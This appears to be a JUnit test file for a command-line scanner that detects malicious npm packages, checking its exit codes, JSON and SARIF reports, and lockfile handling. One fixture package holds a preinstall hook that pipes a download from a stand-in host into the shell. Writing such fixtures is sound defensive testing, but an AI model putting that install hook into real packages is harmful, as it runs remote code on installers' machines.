package io.vigil.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScanCommandTest {
  @TempDir Path tmp;
  Path evil;
  Path tool;

  @BeforeEach
  void packages() throws IOException {
    evil = Files.createDirectories(tmp.resolve("evil"));
    Files.writeString(
        evil.resolve("package.json"),
        "{\"name\":\"evil\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"curl -s https://x.example/a | sh\"}}");
    tool = Files.createDirectories(tmp.resolve("tool"));
    Files.writeString(
        tool.resolve("package.json"),
        "{\"name\":\"tool\",\"version\":\"2.0.0\",\"license\":\"MIT\",\"description\":\"a tool\","
            + "\"repository\":\"github:o/tool\"}");
    Files.writeString(
        tool.resolve("index.js"), "const cp = require('child_process');\nmodule.exports = cp;\n");
  }

  private static int run(String... args) {
    PrintStream out = System.out;
    PrintStream err = System.err;
    try {
      System.setOut(new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
      System.setErr(new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
      return Main.run(args);
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
  }

  @Test
  void scan_maliciousPackage_exitsOneAndWritesJson() throws IOException {
    Path report = tmp.resolve("r.json");
    int code =
        run(
            "scan",
            "--no-advisories",
            "--format",
            "json",
            "--output",
            report.toString(),
            evil.toString());

    assertThat(code).isEqualTo(1);
    JsonNode p = new ObjectMapper().readTree(report.toFile()).path("packages").get(0);
    assertThat(p.path("name").asText()).isEqualTo("evil");
    assertThat(p.path("verdict").asText()).isEqualTo("malicious");
    assertThat(p.path("findings").size()).isPositive();
  }

  @Test
  void scan_cleanPackage_exitsZero() {
    assertThat(run("scan", "--no-advisories", tool.toString())).isZero();
  }

  @Test
  void scan_failOnLow_exitsOneForACapability() {
    assertThat(run("scan", "--no-advisories", "--fail-on", "low", tool.toString())).isEqualTo(1);
  }

  @Test
  void scan_missingPathAmongGoodOnes_exitsTwoAndStillReportsTheOthers() throws IOException {
    Path report = tmp.resolve("r.json");
    int code =
        run(
            "scan",
            "--no-advisories",
            "--format",
            "json",
            "--output",
            report.toString(),
            tool.toString(),
            tmp.resolve("missing.tgz").toString());

    assertThat(code).isEqualTo(2);
    JsonNode root = new ObjectMapper().readTree(report.toFile());
    assertThat(root.path("packages")).hasSize(1);
    assertThat(root.path("errors").get(0).asText())
        .contains("missing.tgz")
        .contains("no such file");
  }

  @Test
  void scan_sarifFormat_writesSarif() throws IOException {
    Path report = tmp.resolve("r.sarif");
    run(
        "scan",
        "--no-advisories",
        "--format",
        "sarif",
        "--output",
        report.toString(),
        evil.toString());
    JsonNode root = new ObjectMapper().readTree(report.toFile());
    assertThat(root.path("version").asText()).isEqualTo("2.1.0");
    assertThat(root.path("runs").get(0).path("results").size()).isPositive();
  }

  @Test
  void scan_lockfileWithPackagesDir_scansTheListedArchive() throws IOException {
    Path archives = Files.createDirectories(tmp.resolve("archives"));
    byte[] tgz = tgz("package/package.json", Files.readString(evil.resolve("package.json")));
    Files.write(archives.resolve("evil-1.0.0.tgz"), tgz);
    Path lock = tmp.resolve("package-lock.json");
    Files.writeString(
        lock,
        "{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{"
            + "\"\":{\"name\":\"app\",\"version\":\"1.0.0\"},"
            + "\"node_modules/evil\":{\"version\":\"1.0.0\"}}}");
    Path report = tmp.resolve("r.json");

    int code =
        run(
            "scan",
            "--no-advisories",
            "--offline",
            "--packages-dir",
            archives.toString(),
            "--format",
            "json",
            "--output",
            report.toString(),
            lock.toString());

    assertThat(code).isEqualTo(1);
    JsonNode p = new ObjectMapper().readTree(report.toFile()).path("packages").get(0);
    assertThat(p.path("name").asText()).isEqualTo("evil");
    assertThat(p.path("verdict").asText()).isEqualTo("malicious");
    assertThat(p.path("path").asText()).contains("package-lock.json");
  }

  private static byte[] tgz(String name, String text) throws IOException {
    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
    try (var tar =
        new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(
            new org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream(bytes))) {
      byte[] b = text.getBytes(StandardCharsets.UTF_8);
      var e = new org.apache.commons.compress.archivers.tar.TarArchiveEntry(name);
      e.setSize(b.length);
      tar.putArchiveEntry(e);
      tar.write(b);
      tar.closeArchiveEntry();
    }
    return bytes.toByteArray();
  }

  @Test
  void scan_badFailOnLevel_exitsTwo() {
    assertThat(run("scan", "--fail-on", "catastrophic", tool.toString())).isEqualTo(2);
  }
}
